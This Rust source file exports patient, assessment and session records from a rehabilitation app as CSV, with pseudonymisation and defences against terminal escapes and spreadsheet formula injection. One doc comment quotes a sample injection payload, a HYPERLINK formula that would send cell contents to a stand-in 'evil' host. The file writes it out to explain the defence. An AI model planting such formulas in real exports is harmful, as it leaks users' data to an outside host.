//! CSV exports: one row per record with fixed columns; text cells made safe to print and neutralised against
//! spreadsheet formulas, number columns left as numbers.

use std::borrow::Cow;

use serde_json::Value;

use super::pseudonym::{DayZero, birth_band, day_number, exported_code, pseudonymise_facts};
use super::{AppError, Rendered};
use crate::domain::{Assessment, Patient, SessionLog};
use crate::instruments::Shown;
use crate::store::export::{ExportData, ExportKind};

fn text(v: Option<Value>) -> String {
    match v {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) => s,
        Some(other) => other.to_string(),
    }
}

fn enum_cell<T: serde::Serialize>(v: &Option<T>) -> String {
    text(v.as_ref().and_then(|v| serde_json::to_value(v).ok()))
}

/// The CSV columns that hold numbers Praxis wrote itself (never text a user typed): left as they are, so a negative
/// day number stays a number. Every other column is text and passes through [`text_cell`].
const NUMBER_COLUMNS: [&str; 8] = [
    "score",
    "birth_year",
    "day",
    "minutes",
    "repetitions",
    "level",
    "success_rate",
    "rpe",
];

/// A text cell that a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage
/// return: `=HYPERLINK("http://evil/?"&A1)`, `@SUM(...)`, `-2+3`) gets a leading `'`, which makes the spreadsheet
/// show it as text. This is OWASP's advice for CSV injection (<https://owasp.org/www-community/attacks/CSV_Injection>).
/// The cell is then no longer exactly the stored text; JSON exports are exact.
pub fn neutralise_formula(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV text cell: characters a terminal would obey written visibly (`\u{1b}`; newlines and tabs kept), so the CSV
/// is safe to print, then [`neutralise_formula`]. JSON exports keep the exact text.
fn text_cell(cell: &str) -> String {
    let shown = crate::domain::text::visible_lines(cell);
    neutralise_formula(&shown).into_owned()
}

/// The condition's facts without its `kind` tag, as JSON text (dates coarsened when pseudonymised).
fn facts(p: &Patient, pseudo: DayZero<'_>) -> (String, String) {
    let mut v = serde_json::to_value(&p.condition).unwrap_or(Value::Null);
    let kind = v
        .as_object_mut()
        .and_then(|o| o.remove("kind"))
        .map(|k| text(Some(k)))
        .unwrap_or_default();
    if let Some(data) = pseudo {
        pseudonymise_facts(&mut v, &p.code, &data.day_zero);
    }
    // Valid JSON whose text holds nothing a terminal obeys, so the CSV cell needs no further escaping.
    (
        kind,
        crate::domain::text::json_safe(&v.to_string()).into_owned(),
    )
}

fn patient_table(ps: &[Patient], pseudo: DayZero<'_>) -> (Vec<&'static str>, Vec<Vec<String>>) {
    let rows = ps
        .iter()
        .map(|p| {
            let (kind, facts) = facts(p, pseudo);
            let mut r = vec![exported_code(&p.code, pseudo)];
            if pseudo.is_some() {
                r.push(birth_band(p.birth_year));
            } else {
                r.push(p.name.clone().unwrap_or_default());
                r.push(p.birth_year.to_string());
            }
            r.extend([
                enum_cell(&p.sex),
                enum_cell(&p.dominant_hand),
                enum_cell(&p.affected_side),
                kind,
                facts,
            ]);
            if pseudo.is_none() {
                r.extend([p.notes.clone(), p.created_at.clone(), p.updated_at.clone()]);
            }
            r
        })
        .collect();
    let mut h = vec!["code"];
    if pseudo.is_some() {
        h.push("birth_years");
    } else {
        h.extend(["name", "birth_year"]);
    }
    h.extend([
        "sex",
        "dominant_hand",
        "affected_side",
        "condition",
        "facts",
    ]);
    if pseudo.is_none() {
        h.extend(["notes", "created_at", "updated_at"]);
    }
    (h, rows)
}

fn assessment_table(
    xs: &[Assessment],
    pseudo: DayZero<'_>,
) -> (Vec<&'static str>, Vec<Vec<String>>) {
    let rows = xs
        .iter()
        .map(|a| {
            let mut r = vec![
                exported_code(&a.patient_code, pseudo),
                a.instrument.clone(),
                Shown::Stored.of(a.score),
            ];
            match pseudo {
                Some(data) => r.push(text(Some(day_number(
                    &data.day_zero,
                    &a.patient_code,
                    a.date,
                )))),
                None => r.extend([
                    a.date.to_string(),
                    a.assessor.clone().unwrap_or_default(),
                    a.notes.clone(),
                ]),
            }
            // The medication state (schema v5) last, so readers of the older columns find them where they were.
            r.push(enum_cell(&a.med_state));
            r
        })
        .collect();
    let mut h = match pseudo {
        Some(_) => vec!["patient_code", "instrument", "score", "day"],
        None => vec![
            "patient_code",
            "instrument",
            "score",
            "date",
            "assessor",
            "notes",
        ],
    };
    h.push("med_state");
    (h, rows)
}

fn session_table(xs: &[SessionLog], pseudo: DayZero<'_>) -> (Vec<&'static str>, Vec<Vec<String>>) {
    let opt = |v: Option<String>| v.unwrap_or_default();
    let rows = xs
        .iter()
        .map(|s| {
            let when = match pseudo {
                Some(data) => text(Some(day_number(
                    &data.day_zero,
                    &s.patient_code,
                    s.started_at.date(),
                ))),
                None => s.started_at.format("%Y-%m-%dT%H:%M:%S").to_string(),
            };
            let mut r = vec![
                exported_code(&s.patient_code, pseudo),
                when,
                s.protocol_id.clone(),
                s.minutes.to_string(),
                s.repetitions.to_string(),
                opt(s.level.map(|x| x.to_string())),
                opt(s.success_rate.map(|x| Shown::Stored.of(x))),
                opt(s.rpe.map(|x| x.to_string())),
            ];
            if pseudo.is_none() {
                r.extend([s.notes.clone(), opt(s.clinician.clone())]);
            }
            r
        })
        .collect();
    let mut h = vec![
        "patient_code",
        if pseudo.is_some() {
            "day"
        } else {
            "started_at"
        },
        "protocol_id",
        "minutes",
        "repetitions",
        "level",
        "success_rate",
        "rpe",
    ];
    if pseudo.is_none() {
        h.extend(["notes", "clinician"]);
    }
    (h, rows)
}

/// Render `kind` as CSV (see [`super::render`]).
pub(super) fn render(
    kind: ExportKind,
    data: &ExportData,
    pseudo: bool,
) -> Result<Rendered, AppError> {
    let failed = |e: &dyn std::fmt::Display| AppError::ExportRender(e.to_string());
    let zero = pseudo.then_some(data);
    let (headers, rows) = match kind {
        ExportKind::Patients => patient_table(&data.patients, zero),
        ExportKind::Assessments => assessment_table(&data.assessments, zero),
        ExportKind::Sessions => session_table(&data.sessions, zero),
    };
    let mut w = ::csv::Writer::from_writer(Vec::new());
    let mut ends = Vec::with_capacity(rows.len());
    let write = |w: &mut ::csv::Writer<Vec<u8>>| -> Result<(), ::csv::Error> {
        w.write_record(&headers)?;
        for r in rows {
            for (cell, h) in r.iter().zip(&headers) {
                if NUMBER_COLUMNS.contains(h) {
                    w.write_field(cell)?;
                } else {
                    w.write_field(text_cell(cell).as_bytes())?;
                }
            }
            w.write_record(None::<&[u8]>)?;
            w.flush()?;
            ends.push(w.get_ref().len());
        }
        Ok(())
    };
    write(&mut w).map_err(|e| failed(&e))?;
    Ok(Rendered {
        bytes: w.into_inner().map_err(|e| failed(&e))?,
        record_ends: ends,
    })
}
